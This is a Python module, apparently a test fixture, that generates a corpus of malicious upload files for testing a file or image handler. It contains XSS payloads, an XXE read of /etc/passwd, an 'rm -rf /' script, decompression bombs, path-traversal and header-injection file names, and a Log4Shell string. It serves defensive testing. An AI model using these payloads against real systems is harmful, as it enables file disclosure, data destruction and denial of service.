"""Fifty and more files that mean harm: each is a name and its bytes."""

import gzip
import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image

PNG = b"\x89PNG\r\n\x1a\n"
SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


def image(width: int = 8, height: int = 8, kind: str = "PNG", frames: int = 1, mode: str = "RGB", **more: Any) -> bytes:
    pages = [Image.new(mode, (width, height), number % 2) for number in range(frames)]
    for number, page in enumerate(pages):
        page.putpixel((number % width, 0), 1 if mode == "1" else (255, number % 255, 0))
    written = io.BytesIO()
    if frames > 1:
        more |= {"save_all": True, "append_images": pages[1:], "duration": 20}
    pages[0].save(written, kind, **more)
    return written.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, data: bytes = b"") -> bytes:
    """By hand: what its header says need not be true."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return PNG + header + b"".join(more) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def zipped(name: str, size: int) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, b"\0" * size)
    return written.getvalue()


def gif(width: int, height: int, body: bytes = b"") -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0" + b"\0\0\0\xff\xff\xff" + body + b";"


def jpeg(width: int, height: int, comment: bytes = b"") -> bytes:
    """A header of any size before a real, small picture's data."""
    real = image(8, 8, "JPEG")
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    at = real.index(b"\xff\xc0")
    return real[:2] + said + real[2 : at + 5] + struct.pack(">HH", height, width) + real[at + 9 :]


def hostile_files() -> list[tuple[str, bytes]]:
    good, moving = image(), image(16, 16, "GIF", 3)
    return [
        # Not what their names say
        ("page.png", HTML),
        ("page.jpg", b"\xef\xbb\xbf" + HTML),
        ("page.gif", HTML.decode().encode("utf-16")),
        ("page.webp", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("drawing.svg", SVG),
        ("drawing.png", SVG),
        ("drawing.svgz", gzip.compress(SVG)),
        ("page.html", HTML),
        ("page.xhtml", b'<?xml version="1.0"?>' + HTML),
        ("page.mhtml", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML),
        ("entities.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        ("style.css", b"@import url(javascript:alert(1))"),
        ("module.js", b"alert(1)"),
        ("program.exe", b"MZ" + b"\0" * 200),
        ("program.sh", b"#!/bin/sh\nrm -rf /\n"),
        ("film.swf", b"CWS\x0a" + b"\0" * 100),
        ("applet.jar", zipped("META-INF/MANIFEST.MF", 10)),
        ("paper.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
        ("feed.rss", b'<?xml version="1.0"?><rss><channel><title>' + SCRIPT + b"</title></channel></rss>"),
        # Two things at once
        ("both.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//"),
        ("both.png", good + HTML),
        ("both.jpg", jpeg(8, 8, HTML)),
        ("both.bmp", b"BM" + b"\0" * 30 + SCRIPT),
        ("both.pdf", b"%PDF-1.4\n" + HTML + zipped("x", 10)),
        ("both.mp4", b"\0\0\0\x20ftypisom" + HTML),
        ("both.webm", b"\x1a\x45\xdf\xa3" + b"webm" + HTML),
        ("both.mp3", b"ID3" + HTML),
        ("both.ogg", b"OggS" + HTML),
        ("both.webp", b"RIFF\xff\xff\xff\xffWEBP" + HTML),
        ("both.avif", b"\0\0\0\x20ftypavif" + HTML),
        ("text.png", png(8, 8, chunk(b"tEXt", b"Comment\0" + SCRIPT), data=b"\0" * 200)),
        # Too much
        ("wide.png", png(60_000, 60_000)),
        ("bomb.png", image(12_000, 12_000, mode="1")),
        ("claims.png", png(2**31 - 1, 2**31 - 1)),
        ("claims.jpg", jpeg(65_500, 65_500)),
        ("claims.gif", gif(65_535, 65_535, moving[19:])),
        ("frames.gif", image(10, 10, "GIF", 400)),
        ("frames.png", image(10, 10, "PNG", 300)),
        ("frames.webp", image(10, 10, "WEBP", 250)),
        ("pages.tiff", image(10, 10, "TIFF", 50)),
        ("bomb.zip", zipped("zeros", 30_000_000)),
        ("text-bomb.png", png(8, 8, chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 30_000_000)), data=b"\0" * 200)),
        ("profile-bomb.png", png(8, 8, chunk(b"iCCP", b"a\0\0" + zlib.compress(b"\0" * 30_000_000)), data=b"\0" * 200)),
        ("data-bomb.png", png(8, 8, data=b"\0" * 30_000_000)),
        # Broken
        ("empty.png", b""),
        ("one.jpg", b"\xff"),
        ("nothing.png", png(0, 0)),
        ("header.png", PNG),
        ("cut.png", image(300, 300)[:200]),
        ("cut.jpg", image(300, 300, "JPEG")[:300]),
        ("cut.gif", moving[: len(moving) // 2]),
        ("cut.webp", image(300, 300, "WEBP")[:40]),
        ("cut.avif", image(300, 300, "AVIF")[:120]),
        ("cut.tiff", image(30, 30, "TIFF")[:60]),
        ("checksum.png", good[:40] + b"\0\0\0\0" + good[44:]),
        ("endless.tiff", b"II*\0\x08\0\0\0" + b"\x01\0\0\x01\x03\0\x01\0\0\0\x01\0\0\0" + b"\x08\0\0\0"),
        # Names
        ("..\\..\\..\\boot.ini", b"x"),
        ("../../../../etc/cron.d/x", b"x"),
        ("/etc/shadow", b"x"),
        ("a\u202ecod.exe", b"MZ"),
        ("\u2066x\u2069.png", good),
        ("z" + "\u0301" * 200 + ".txt", b"x"),
        (" . . ", b"x"),
        ("CON", b"x"),
        ("a.png\r\nSet-Cookie: x=1", b"x"),
        ("a.png%00.html", HTML),
        ("'><img src=x onerror=alert(1)>.png", good),
        ("${jndi:ldap://x}.png", good),
        ("](javascript:alert(1)) [x.png", good),
        ("x.php;.png", b"<?php phpinfo();"),
    ]  # fmt: skip
